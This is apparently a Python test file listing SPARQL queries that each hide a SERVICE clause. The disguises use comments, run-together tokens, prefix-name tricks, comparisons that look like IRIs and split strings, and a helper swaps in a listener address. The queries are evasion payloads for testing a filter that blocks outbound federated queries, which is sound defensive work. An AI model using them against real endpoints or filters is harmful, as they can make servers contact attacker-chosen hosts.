"""Queries that make the engine connect to an endpoint, each hiding that in another way (field notes, D 57)."""

# CALL stands for a whole SERVICE clause, IRI for the listener's address.
HIDDEN = [
    # plain, and at every place of a pattern
    "SELECT * { CALL }",
    "SELECT * { sErViCe <IRI> {} }",
    "ASK{CALL}",
    "CONSTRUCT{<a:><b:>1}WHERE{CALL}",
    "DESCRIBE<a:b>{CALL}",
    "ASKFROM<a:b>{CALL}",
    'VERSION "1.2" SELECT * {CALL}',
    "SELECT * {{SELECT*{CALL}}}",
    "SELECT * {{}UNION{CALL}}",
    "SELECT * {OPTIONAL{CALL}}",
    "SELECT * {LATERAL{CALL}}",
    "SELECT * {VALUES ?x{1} MINUS{VALUES ?x{2} CALL}}",
    "ASK {VALUES ?x{1} FILTER EXISTS{CALL}}",
    "SELECT * {VALUES ?x{1 2}} ORDER BY(EXISTS{CALL})",
    # beside comments and spaces
    "SELECT * { # x\rCALL }",
    "SELECT * { # x\nSERVICE#\n<IRI>#\n{} }",
    # run into the token before, or after
    "SELECT * { SERVICESILENT<IRI> {} }",
    "SELECT * {?s ?p trueCALL}",
    "SELECT * {?s ?p 1CALL}",
    "SELECT * {?s ?p 1.e5CALL}",
    "SELECT * {?s ?p 1.CALL}",
    "SELECT * {?s ?p 'a'CALL}",
    "SELECT * {?s ?p 'a'@en.CALL}",
    "SELECT * {?s ?p 'a'@en--ltr.CALL}",
    "SELECT * {?s ?p ?o;CALL}",
    "SELECT * {?s?p?o.CALL}",
    "SELECT * {?s ?p '\0'.CALL}",
    # in what looks like the prefix of a name
    "PREFIX :<IRI> SELECT * { SERVICE:{}}",
    "PREFIX :<IRI> SELECT * { SERVICESILENT:x{}}",
    "PREFIX s:<IRI> SELECT * { services:x{}}",
    "PREFIX services:<a:> PREFIX s:<IRI> SELECT * { services:x #c\n {}}",
    "PREFIX s:<IRI> SELECT * FROM <a:b> { GRAPH<x:y>{} services:x{}}",
    "PREFIX :<IRI> SELECT * { ?s ?p true.SERVICE:x {}}",
    "PREFIX :<IRI> SELECT * { ?s ?p true.SERVICE :x {}}",
    # behind the second dot of a name
    "PREFIX a:<a:> SELECT * { ?s ?p a:b.c.CALL}",
    # in the local part of a name whose prefix cannot take it
    "PREFIX a:<http://h:> SELECT * { ?s ?p a:CALL}",
    "PREFIX a:<http://h:8> SELECT * { ?s ?p a:CALL}",
    "PREFIX a:<http://[::1]> SELECT * { ?s ?p a:CALL}",
    "PREFIX a:<http://h:> SELECT * { ?s a:true.CALL}",
    "PREFIX a:<http://h> PREFIX :<IRI> SELECT * { ?s ?p a:SERVICE:x {}}",
    "BASE <http://h:> PREFIX a:<> SELECT * { ?s ?p a:CALL}",
    "BASE <http://h:#> PREFIX a:<> SELECT * { ?s ?p a:CALL}",
    "BASE <http://h:?q> BASE <#> BASE <http://h:> PREFIX a:<#> PREFIX b:<> SELECT * { ?s ?p b:CALL}",
    "BASE <http://x/> PREFIX a:<//h:> SELECT * { ?s ?p a:CALL}",
    "PREFIX a:<http://x/#> PREFIX :<IRI> SELECT * { ?s ?p a:SERVICE:x\\# {}}",
    "PREFIX a:<http:\\u002F\\u002Fh:> SELECT * { ?s ?p a:CALL}",
    "PREFIX a:<http:\\u+02F\\u+02Fh:> SELECT * { ?s ?p a:CALL}",
    "PREFIX a:<a:> PREFIX \ufff0:<IRI> SELECT * { ?s ?p a:SERVICE\ufff0:x {}}",
    # behind a comparison that looks like an IRI
    "SELECT * { BIND(?a<?b&&'>'!=?c AS ?x) CALL BIND('' AS ?y)}",
    "SELECT * { FILTER(?a<?b&&'>'!=?c) CALL BIND('' AS ?y)}",
    "SELECT * { FILTER(?a<?b#>'''\n) CALL #'''\n}",
    "SELECT * { FILTER(?a<?b)SERVICE#>\n<IRI>{} }",
    "SELECT * { FILTER(?a<='>'&&?b) CALL BIND('' AS ?y)}",
    "SELECT * { FILTER(?a<<b:'c>||''='') CALL #'\n}",
    "SELECT * { FILTER(EXISTS{}<?b&&'>'!=?c) CALL BIND('' AS ?y)}",
    "SELECT * { FILTER((?a)<?b&&'>'!=?c) CALL BIND('' AS ?y)}",
    "SELECT * { FILTER(<<(?s ?p ?o)>><?b&&'>'!=?c) CALL BIND('' AS ?y)}",
    "SELECT (?a<?b&&'>'!=?c AS ?x) { CALL BIND('' AS ?y)}",
    # in a long string that is two short ones
    'SELECT * { VALUES ?x { """x" } CALL }',
    'SELECT * { VALUES ?x { """x" } CALL #\\uD800"""\n}',
    "SELECT * { VALUES ?x { '''x' } CALL #\\z'''\n}",
    "SELECT * { VALUES ?x { '''x' } CALL #\\U00110000'''\n}",
]


def with_address(text: str, iri: str) -> str:
    """`text` with a clause in it that asks the endpoint at `iri`."""
    return text.replace("CALL", "SERVICE SILENT <IRI> {}").replace("IRI", iri)
